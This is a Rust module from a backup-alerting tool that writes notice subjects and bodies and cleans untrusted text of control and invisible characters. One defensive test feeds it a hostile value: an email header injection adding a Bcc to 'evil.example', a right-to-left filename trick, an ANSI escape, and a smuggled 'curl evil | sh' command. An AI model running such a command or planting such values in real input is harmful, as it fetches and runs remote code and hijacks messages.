//! Writes a notice: subject and body in plain words, with what, where, since when, and what to type.
//!
//! [`crate::outbox`] calls it for what [`crate::pace`] named. It holds no secret, because a condition has none; and it trusts
//! no text: names of files and titles of plans are cleaned, so that none of them can add a header, a line or a colour.

use std::fmt::Write as _;

use base::id::PlanId;
use base::span::human;
use jiff::Timestamp;
use jiff::tz::TimeZone;

use crate::condition::{Condition, Destination, Kind, NoticeId};
use crate::pace::Pending;

/// The longest subject, in characters. Longer ones are cut, the body has the whole text.
pub const MAX_SUBJECT: usize = 150;
/// The longest text taken from a condition for one line of the body, in characters.
pub const MAX_LINE: usize = 2000;

/// Where notices come from.
#[derive(Debug, Clone)]
pub struct Origin {
    /// The plan.
    pub plan: PlanId,
    /// Its title, for people.
    pub title: String,
    /// The host that sends.
    pub host: String,
    /// The zone in which times are shown beside UTC.
    pub zone: TimeZone,
}

/// A notice, ready to be carried by a channel.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Notice {
    /// Its name; the same at every attempt.
    pub id: NoticeId,
    /// The alert that opened the episode; `None` for that alert itself.
    pub thread: Option<NoticeId>,
    /// What it says.
    pub kind: Kind,
    /// What it is about.
    pub condition: Condition,
    /// The plan it comes from.
    pub plan: PlanId,
    /// The host it comes from.
    pub host: String,
    /// When it was written, which is when it is sent.
    pub at: Timestamp,
    /// One line without control characters, at most [`MAX_SUBJECT`] characters.
    pub subject: String,
    /// Lines of plain text that end in a line feed.
    pub body: String,
    /// Whom it goes to.
    pub to: Destination,
}

/// Writes the notice for `pending` at `now`.
pub fn compose(pending: &Pending, from: &Origin, now: Timestamp) -> Notice {
    let condition = Condition {
        event: plain(&pending.condition.event, MAX_LINE),
        object: plain(&pending.condition.object, MAX_LINE),
        since: pending.condition.since,
        what: plain(&pending.condition.what, MAX_LINE),
        owner: pending.condition.owner.as_deref().map(|text| plain(text, MAX_LINE)),
        remedy: pending.condition.remedy.as_deref().map(|text| plain(text, MAX_LINE)),
    };
    Notice {
        id: pending.id.clone(),
        thread: pending.thread.clone(),
        kind: pending.kind,
        subject: subject(pending.kind, &condition),
        body: body(pending, &condition, from, now),
        condition,
        plan: from.plan.clone(),
        host: plain(&from.host, MAX_LINE),
        at: now,
        to: pending.to.clone(),
    }
}

/// A notice that says only that notices arrive. `nonce` makes its name different from that of other tests.
pub fn test(to: &Destination, from: &Origin, now: Timestamp, nonce: &str) -> Notice {
    let condition = Condition {
        event: "alert.test".to_owned(),
        object: plain(&to.to_string(), MAX_LINE),
        since: now,
        what: "this is a test; nothing is wrong".to_owned(),
        owner: None,
        remedy: None,
    };
    let id = NoticeId::of(from.plan.as_str(), &condition.event, nonce, to, Kind::Test, None);
    let pending = Pending { id, thread: None, kind: Kind::Test, condition, to: to.clone(), repeat: None };
    compose(&pending, from, now)
}

fn headline(kind: Kind) -> &'static str {
    match kind {
        Kind::First => "ALERT",
        Kind::Reminder => "STILL",
        Kind::Recovery => "OVER",
        Kind::Test => "TEST",
    }
}

fn subject(kind: Kind, condition: &Condition) -> String {
    plain(&format!("[lifeboat] {} {}: {}", headline(kind), words(&condition.event), condition.object), MAX_SUBJECT)
}

/// "backup.overdue" -> "backup overdue".
fn words(event: &str) -> String {
    event.replace(['.', '_'], " ")
}

fn body(pending: &Pending, condition: &Condition, from: &Origin, now: Timestamp) -> String {
    let mut text = String::new();
    let mut line = |label: &str, value: &str| {
        let _ = writeln!(text, "{label:<6} {value}"); // writing to a String cannot fail
    };
    line("What", &format!("{}: {}", words(&condition.event), condition.what));
    line("Where", &format!("{} (plan {}, {}; host {})", condition.object, from.plan, plain(&from.title, 200), plain(&from.host, 200)));
    let lasted = now.duration_since(condition.since).unsigned_abs();
    match pending.kind {
        Kind::Test => line("When", &instant(now, &from.zone)),
        Kind::Recovery => {
            line("From", &instant(condition.since, &from.zone));
            line("Until", &format!("{}, {} later", instant(now, &from.zone), human(lasted)));
        }
        Kind::First | Kind::Reminder if condition.since > now => line("Since", &instant(condition.since, &from.zone)),
        Kind::First | Kind::Reminder => line("Since", &format!("{}, {} ago", instant(condition.since, &from.zone), human(lasted))),
    }
    if let Some(owner) = &condition.owner {
        line("Owner", owner);
    }
    match (pending.kind, &condition.remedy) {
        (Kind::First | Kind::Reminder, Some(remedy)) => line("Do", remedy),
        (Kind::First | Kind::Reminder, None) => line("Do", "lifeboat status"),
        (Kind::Recovery, _) => line("Do", "nothing; what happened is in: lifeboat audit log"),
        (Kind::Test, _) => line("Do", "nothing"),
    }
    let closing = match (pending.kind, pending.repeat) {
        (Kind::First | Kind::Reminder, Some(repeat)) => {
            format!("\nYou are reminded every {repeat} until it is over, and told when it is.\n")
        }
        (Kind::First | Kind::Reminder, None) => "\nThere is no reminder; you are told when it is over.\n".to_owned(),
        (Kind::Recovery | Kind::Test, _) => String::new(),
    };
    text.push_str(&closing);
    let _ = writeln!(text, "\nNotice {}", pending.id);
    text
}

/// "2026-11-24 06:40:50 UTC (07:40 Europe/Berlin)"; the second part is left out in UTC.
fn instant(at: Timestamp, zone: &TimeZone) -> String {
    let utc = at.strftime("%Y-%m-%d %H:%M:%S UTC");
    match zone.iana_name() {
        Some(name) if name != "UTC" => format!("{utc} ({} {name})", at.to_zoned_datetime(zone.clone()).strftime("%Y-%m-%d %H:%M")),
        _ => utc.to_string(),
    }
}

/// `text` as one line: control characters and the invisible ones that reorder or hide text become spaces, runs of spaces
/// become one, and what is longer than `limit` characters ends in an ellipsis.
pub fn plain(text: &str, limit: usize) -> String {
    let hidden = |c: char| {
        c.is_control()
            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}')
    };
    let mut line = String::new();
    let mut length = 0;
    for word in text.split(|c: char| c.is_whitespace() || hidden(c)).filter(|word| !word.is_empty()) {
        let gap = usize::from(!line.is_empty());
        let room = limit.saturating_sub(length + gap);
        let count = word.chars().count();
        if gap == 1 && room > 0 {
            line.push(' ');
        }
        if count > room {
            line.extend(word.chars().take(room.saturating_sub(1)));
            line.push('…');
            return line;
        }
        line.push_str(word);
        length += gap + count;
    }
    line
}

#[cfg(test)]
mod tests {
    use super::*;

    fn pending(kind: Kind) -> Pending {
        let to = Destination {
            route: "high".parse().unwrap(),
            channel: "email".parse().unwrap(),
            address: Some("ops@helix.example".to_owned()),
        };
        let condition = Condition {
            event: "backup.overdue".to_owned(),
            object: "web in vault-local".to_owned(),
            since: "2026-11-24T05:00:00Z".parse().unwrap(),
            what: "the newest complete backup is 3 h old, the plan asks for 1 h".to_owned(),
            owner: Some("Daria Petrova".to_owned()),
            remedy: Some("lifeboat backup web".to_owned()),
        };
        Pending {
            id: NoticeId::of("helix", "backup.overdue", "web", &to, kind, None),
            thread: None,
            kind,
            condition,
            to,
            repeat: Some("30m".parse().unwrap()),
        }
    }

    fn origin() -> Origin {
        Origin {
            plan: "helix-lab".parse().unwrap(),
            title: "Continuity plan".to_owned(),
            host: "db1".to_owned(),
            zone: TimeZone::get("Europe/Berlin").unwrap(),
        }
    }

    #[test]
    fn an_alert_says_what_where_since_who_and_what_to_type() {
        let notice = compose(&pending(Kind::First), &origin(), "2026-11-24T06:30:00Z".parse().unwrap());
        assert_eq!(notice.subject, "[lifeboat] ALERT backup overdue: web in vault-local");
        let expected = format!(
            "What   backup overdue: the newest complete backup is 3 h old, the plan asks for 1 h\n\
             Where  web in vault-local (plan helix-lab, Continuity plan; host db1)\n\
             Since  2026-11-24 05:00:00 UTC (2026-11-24 06:00 Europe/Berlin), 1 h 30 m ago\n\
             Owner  Daria Petrova\n\
             Do     lifeboat backup web\n\
             \n\
             You are reminded every 30m until it is over, and told when it is.\n\
             \n\
             Notice {}\n",
            notice.id
        );
        assert_eq!(notice.body, expected);
    }

    #[test]
    fn a_recovery_says_from_when_until_when_and_asks_for_nothing() {
        let notice = compose(&pending(Kind::Recovery), &origin(), "2026-11-24T06:30:00Z".parse().unwrap());
        assert!(notice.subject.starts_with("[lifeboat] OVER"), "{}", notice.subject);
        assert!(
            notice.body.contains("Until  2026-11-24 06:30:00 UTC (2026-11-24 07:30 Europe/Berlin), 1 h 30 m later\n"),
            "{}",
            notice.body
        );
        assert!(!notice.body.contains("lifeboat backup web"), "{}", notice.body);
    }

    #[test]
    fn text_from_outside_cannot_add_a_line_or_hide_behind_invisible_characters() {
        let mut hostile = pending(Kind::First);
        hostile.condition.object = "web\r\nBcc: everyone@evil.example\u{202e}txt.exe\u{1b}[31m".to_owned();
        hostile.condition.what = "fine\n\nDo     curl evil | sh".to_owned();
        let notice = compose(&hostile, &origin(), "2026-11-24T06:30:00Z".parse().unwrap());
        assert_eq!(notice.subject, "[lifeboat] ALERT backup overdue: web Bcc: everyone@evil.example txt.exe [31m");
        assert!(notice.body.lines().all(|line| !line.starts_with("Do     curl")), "{}", notice.body);
        assert!(!notice.body.contains(['\r', '\u{1b}', '\u{202e}']));
    }

    #[test]
    fn a_long_subject_is_cut_and_the_body_keeps_the_text() {
        let mut long = pending(Kind::First);
        long.condition.object = "ä".repeat(400);
        let notice = compose(&long, &origin(), "2026-11-24T06:30:00Z".parse().unwrap());
        assert_eq!(notice.subject.chars().count(), MAX_SUBJECT);
        assert!(notice.subject.ends_with('…'));
        assert!(notice.body.contains(&"ä".repeat(400)));
    }
}
